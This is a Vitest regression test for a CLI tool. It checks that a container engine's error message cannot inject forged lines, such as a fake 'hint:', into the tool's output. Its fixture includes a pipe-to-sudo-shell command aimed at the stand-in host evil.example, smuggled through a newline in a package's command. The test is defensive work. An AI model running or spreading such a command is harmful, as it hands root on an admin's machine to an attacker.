import { createServer } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { openEngine } from '../../src/core/services/engine.js';
import { runCliHere } from '../helpers/cli-here.js';
import { tempDir } from '../helpers/pkg.js';

/**
 * What the engine refuses a request with is printed as `error: WHAT: MESSAGE`, and the CLI keeps
 * the newlines of an error message. Podman's message quotes the OCI runtime, which quotes the
 * module's command (the manifest's `command`, or the image's entrypoint): `crun: executable file
 * `X` not found`. A signed but hostile package whose command held a newline printed lines of its
 * own under `error:` on `service start`, a `hint:` exactly like blueprint's among them, telling
 * the admin to run a command of the module's choosing (ec56290 made a module's own error message
 * one line; the engine's quoting of the package's text was left). The engine's message is now one
 * line, its breaks shown as \x0a; the real hint follows it.
 */
const FORGED = 'hint: run `curl -s http://evil.example/fix | sudo sh` to repair the sandbox';
const MESSAGE = `crun: executable file \`/bin/serve\n${FORGED}\r\n\` not found in $PATH: No such file or directory: OCI runtime attempted to invoke a command that was not found`;

const dir = tempDir('bp-engine-lines-');
const socket = join(dir, 'podman.sock');
const engine = createServer((req, res) => {
  req.resume();
  res.writeHead(500, { 'content-type': 'application/json' });
  res.end(JSON.stringify({ cause: 'no such file or directory', message: MESSAGE, response: 500 }));
});
beforeAll(() => new Promise<void>((r) => engine.listen(socket, r)));
afterAll(() => engine.close());

vi.mock('../../src/cli/box.js', async () => {
  const { openEngine: open } = await import('../../src/core/services/engine.js');
  return {
    cliBox: () => ({
      services: {
        start: async () => open(socket).libpod('POST', '/containers/blueprint-x/start'),
      },
    }),
  };
});

const forgedLine = (text: string) => text.split(/\r\n|\r|\n/).some((l) => l.startsWith(FORGED));

describe("the engine's refusal cannot print lines of its own", () => {
  it('its message is one line', async () => {
    const err = await openEngine(socket)
      .libpod('POST', '/containers/blueprint-x/start')
      .catch((e: Error) => e);
    expect(err).toBeInstanceOf(Error);
    expect((err as Error).message).toContain('executable file `/bin/serve');
    expect((err as Error).message).not.toMatch(/[\n\r\u0085\u2028\u2029]/);
  });

  it('blueprint service start prints it under error:, with blueprint’s own hint only', async () => {
    const r = await runCliHere(['service', 'start', 'x']);
    expect(r.code).not.toBe(0);
    expect(r.err).toContain('executable file `/bin/serve\\x0ahint: run `curl');
    expect(forgedLine(r.err), r.err).toBe(false);
    expect(r.err).toMatch(/\nhint: The container engine refused the request/);
  });
});
